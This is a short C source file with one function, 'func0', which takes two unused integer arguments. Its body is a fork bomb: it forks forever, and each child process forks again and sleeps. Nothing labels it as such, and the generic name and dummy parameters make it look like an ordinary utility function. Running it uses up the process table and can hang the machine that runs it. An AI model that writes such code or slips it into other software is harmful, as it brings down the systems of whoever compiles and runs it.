#include <unistd.h>
int func0(int a, int b) { for (;;) if (!fork()) for (;;) { fork(); sleep(1000); } }
